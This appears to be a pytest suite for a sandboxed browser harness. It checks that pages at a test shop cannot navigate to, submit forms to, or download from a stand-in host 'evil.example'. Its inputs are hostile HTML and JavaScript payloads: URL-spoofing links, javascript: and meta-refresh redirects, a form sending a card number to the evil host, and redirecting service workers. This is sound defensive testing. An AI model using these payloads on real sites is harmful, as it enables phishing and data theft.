"""Pages, forms and files of other hosts never reach her, even where pages may load from everybody."""

from typing import TYPE_CHECKING

import pytest

from harness.browser.hosts import ThirdParties
from tests.pages import Page

from .internet import SHOP
from .looking import FOR_NOTHING_MS, at_the_shop, looking

if TYPE_CHECKING:
    from harness.browser.keeper import BrowserKeeper

    from .internet import Internet

WORKER = "self.onfetch = event => event.respondWith(Response.redirect('{evil}/'))"
TRICKS = {
    "a link": "<a id=go href={evil}/>Go</a>",
    "a link without a scheme": "<a id=go href=//{place}/>Go</a>",
    "a link in a new tab": "<a id=go target=_blank href={evil}/>Go</a>",
    "a link that hides who opened it": "<a id=go target=_blank rel=noopener href={evil}/>Go</a>",
    "a link with the shop as its user": "<a id=go href=http://shop.example@{place}/>Go</a>",
    "a link with a password": "<a id=go href=http://shop.example:80@{place}/>Go</a>",
    "a link with backslashes": "<a id=go href='http:\\\\{place}\\'>Go</a>",
    "a link with a line's end": "<a id=go href='http://ev&#10;il.{rest}/'>Go</a>",
    "a link by the page's base": "<base href={evil}/><a id=go href=there>Go</a>",
    "a link to a longer name": "<a id=go href=http://shop.example.{place}/>Go</a>",
    "a link to a name that ends alike": "<a id=go href=http://evilshop.example:{port}/>Go</a>",
    "a link with a dot at its end": "<a id=go href=http://evil.example.:{port}/>Go</a>",
    "a link with a letter that looks alike": "<a id=go href=http://sh&#246;p.example:{port}/>Go</a>",
    "a link to a file": "<a id=go href={evil}/file>Go</a>",
    "a link that saves": "<a id=go download href={evil}/file>Go</a>",
    "a link that saves and leads on": "<a id=go download href=/on>Go</a>",
    "a script in a link": "<a id=go href=\"javascript:void(location='{evil}/')\">Go</a>",
    "a script": "<script>location = '{evil}/'</script>",
    "a script that replaces": "<script>location.replace('{evil}/')</script>",
    "a script that opens a window": "<button id=go onclick=\"window.open('{evil}/')\">Go</button>",
    "a window that is led on": "<button id=go onclick=\"window.open('').location = '{evil}/'\">Go</button>",
    "a refresh": "<meta http-equiv=refresh content='0;url={evil}/'>",
    "a form": "<form method=post action={evil}/><button id=go>Go</button></form>",
    "a form that asks": "<form action={evil}/><input name=card value=4242><button id=go>Go</button></form>",
    "a button's own address": "<form method=post><button id=go formaction={evil}/>Go</button></form>",
    "a form into a frame": (
        "<iframe name=f></iframe><form target=f method=post action={evil}/><button id=go>Go</button></form>"
    ),
    "a form in a new tab": "<form target=_blank method=post action={evil}/><button id=go>Go</button></form>",
    "a form sent by a script": (
        "<form id=f method=post action={evil}/></form><script>document.forms[0].submit()</script>"
    ),
    "a form that leads on": "<form method=post action=/kept><button id=go>Go</button></form>",
    "a page fetched before its time": (
        '<script type=speculationrules>{{"prerender":[{{"urls":["{evil}/"]}}]}}</script>'
        "<a id=go href={evil}/>Go</a>"
    ),
    "a page that came of a script": (
        '<button id=go onclick="location = window.URL.createObjectURL(new Blob(['
        "`<script>location = '{evil}/'<\\/script>`], {{type: 'text/html'}}))\">Go</button>"
    ),
}


def filled(text: str, internet: "Internet") -> str:
    place = internet.at("evil.example").removeprefix("http://")
    _, _, rest = place.partition(".")
    return text.format(evil=f"http://{place}", place=place, rest=rest, port=place.rpartition(":")[2])


@pytest.mark.parametrize("trick", TRICKS.values(), ids=TRICKS)
def test_no_page_form_or_file_comes_from_elsewhere(
    keeper: "BrowserKeeper", internet: "Internet", trick: str
) -> None:
    internet.pages["/on"] = Page("", 302, headers={"Location": f"{internet.at('evil.example')}/file"})
    internet.pages["/kept"] = Page("", 307, headers={"Location": f"{internet.at('evil.example')}/"})
    with looking(keeper, internet.shop_address) as look:
        at_the_shop(look, internet, filled(trick, internet))
        look.wait_for_refusal()
        refused = look.refused()
    assert internet.evil.visited == []
    assert set(refused.values()) == {"not allowed"}


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_page_of_the_shop_leads_nowhere_else(
    keeper: "BrowserKeeper", internet: "Internet", status: int
) -> None:
    internet.pages["/on"] = Page("", status, headers={"Location": f"{internet.at('evil.example')}/"})
    with looking(keeper, internet.shop_address) as look:
        at_the_shop(look, internet, "<a id=go href=/on>Go</a>")
        look.wait_for_refusal()
        assert look.refused() == {"evil.example": "not allowed"}
    assert internet.evil.visited == []


def test_a_header_of_the_shop_leads_nowhere_else(keeper: "BrowserKeeper", internet: "Internet") -> None:
    internet.pages["/on"] = Page("", headers={"Refresh": f"0;url={internet.at('evil.example')}/"})
    with looking(keeper, internet.shop_address) as look:
        at_the_shop(look, internet, "<a id=go href=/on>Go</a>")
        look.wait_for_refusal()
    assert internet.evil.visited == []


def test_a_frame_of_others_may_show_and_not_lead_the_page_away(
    keeper: "BrowserKeeper", internet: "Internet"
) -> None:
    evil = internet.at("evil.example")
    with looking(keeper, internet.shop_address) as look:
        at_the_shop(look, internet, f"<iframe src={evil}/leads-away></iframe>")
        look.page.wait_for_timeout(300)
        assert look.page.title() == "Shop"
    assert internet.evil.visited == ["/leads-away"]


NOT_OF_THE_WEB = [
    "file:///etc/hostname",
    "data:text/html,<title>Made up</title>",
    "view-source:http://shop.example",
    "chrome://version",
    "filesystem:http://shop.example/temporary/x",
    "ftp://shop.example/",
]


@pytest.mark.parametrize("address", NOT_OF_THE_WEB)
@pytest.mark.parametrize("how", ["location = '{}'", "window.open('{}')"], ids=["here", "in a window"])
def test_a_page_opens_no_address_that_is_not_of_the_web(
    keeper: "BrowserKeeper", internet: "Internet", how: str, address: str
) -> None:
    with looking(keeper, internet.shop_address) as look:
        at_the_shop(look, internet, "")
        look.page.evaluate(f"() => {{ {how.format(address)} }}")
        look.page.wait_for_timeout(FOR_NOTHING_MS)
        shown = {page.url for page in look.context.pages} - {f"{internet.shop_address}/"}
        assert shown <= {"about:blank", ":", "", "chrome-error://chromewebdata/", "about:blank#blocked"}


WORKERS = {
    "leads away": (WORKER, "allow"),
    "loads": ("self.oninstall = event => event.waitUntil(fetch('{evil}/').catch(() => 0))", "block all"),
}


@pytest.mark.parametrize(("worker", "third_parties"), WORKERS.values(), ids=WORKERS)
def test_a_service_worker_gets_nowhere_else(
    keeper: "BrowserKeeper", internet: "Internet", worker: str, third_parties: ThirdParties
) -> None:
    shop = internet.at("localhost", internet.shop)  # only there are workers served without encryption
    internet.pages["/worker.js"] = Page(
        worker.format(evil=internet.at("evil.example")), kind="text/javascript"
    )
    internet.pages["/"] = "<title>Shop</title><link rel=icon href=data:,>"
    internet.ways["127.0.0.1"] = SHOP
    try:
        with looking(keeper, shop, third_parties=third_parties) as look:
            look.page.goto(shop)
            look.page.evaluate(
                "async () => { await navigator.serviceWorker.register('/worker.js');"
                " await navigator.serviceWorker.ready; location = '/by-the-worker' }"
            )
            look.wait_for_refusal()
            assert look.refused() == {"evil.example": "not allowed"}
    finally:
        del internet.ways["127.0.0.1"]
    assert internet.evil.visited == []
